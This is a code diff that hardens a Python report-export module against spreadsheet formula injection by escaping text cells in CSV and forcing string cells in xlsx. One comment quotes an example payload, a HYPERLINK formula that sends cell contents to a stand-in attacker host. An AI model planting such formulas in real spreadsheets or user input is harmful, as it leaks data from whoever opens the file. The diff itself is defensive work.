@@ -1,5 +1,7 @@
-"""Downloads: any report as CSV (UTF-8 with BOM, so Excel shows Vietnamese) or as an xlsx
-workbook, with a title row naming the period and the day the file was made."""
+"""Downloads: any list or report as CSV (UTF-8 with BOM, so Excel shows Vietnamese) or as an
+xlsx workbook, with a title row naming the period and the day the file was made. The one
+writer of every file the service makes: whatever a user wrote is inert in it (text cells are
+never formulas)."""
 
 from __future__ import annotations
 
@@ -82,11 +84,18 @@ async def _batches(rows: Rows) -> AsyncIterator[tuple[list[Any], Callable[[Any],
         yield batch, _as_is
 
 
+# A text cell starting with one of these is a formula to a spreadsheet (OWASP, CSV injection):
+# `=HYPERLINK("http://attacker/?"&A1)` in a proposal's title would run in the office's Excel.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _csv_text(value: Any) -> Any:
     if value is None:
         return ""
     if isinstance(value, (date, datetime)):
         return value.isoformat()
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value  # shown as text, as OWASP recommends
     return value
 
 
@@ -105,35 +114,38 @@ async def _csv(title: list[str], headers: Sequence[str], rows: Rows) -> AsyncIte
         yield await _off_loop(_csv_encode, batch, convert)
 
 
+def _xlsx_cell(sheet: Any, value: Any) -> Any:
+    """A cell of the workbook; text is always a string cell, never a formula."""
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(sheet, value=_cell(value))
+    if isinstance(value, str):
+        cell.data_type = "s"  # openpyxl would take a leading "=" for a formula
+    elif isinstance(value, date) and not isinstance(value, datetime):
+        cell.number_format = "DD/MM/YYYY"
+    elif isinstance(value, int) and not isinstance(value, bool) and abs(value) >= 1000:
+        cell.number_format = "#,##0"
+    return cell
+
+
 def _new_book(title: list[str], headers: Sequence[str], sheet_name: str) -> tuple[Any, Any]:
     from openpyxl import Workbook
-    from openpyxl.cell import WriteOnlyCell
     from openpyxl.styles import Font
 
     book = Workbook(write_only=True)
     sheet = book.create_sheet(sheet_name)
     for i, text in enumerate(title):
-        cell = WriteOnlyCell(sheet, value=text)
+        cell = _xlsx_cell(sheet, text)
         cell.font = Font(bold=i == 0)
         sheet.append([cell])
     sheet.append([])
-    sheet.append(list(headers))
+    sheet.append([_xlsx_cell(sheet, h) for h in headers])
     return book, sheet
 
 
 def _append_rows(sheet: Any, batch: list[Any], convert: Callable[[Any], Sequence[Any]]) -> None:
-    from openpyxl.cell import WriteOnlyCell
-
     for row in batch:
-        cells = []
-        for value in convert(row):
-            cell = WriteOnlyCell(sheet, value=_cell(value))
-            if isinstance(value, date) and not isinstance(value, datetime):
-                cell.number_format = "DD/MM/YYYY"
-            elif isinstance(value, int) and not isinstance(value, bool) and abs(value) >= 1000:
-                cell.number_format = "#,##0"
-            cells.append(cell)
-        sheet.append(cells)
+        sheet.append([_xlsx_cell(sheet, value) for value in convert(row)])
 
 
 async def _xlsx(
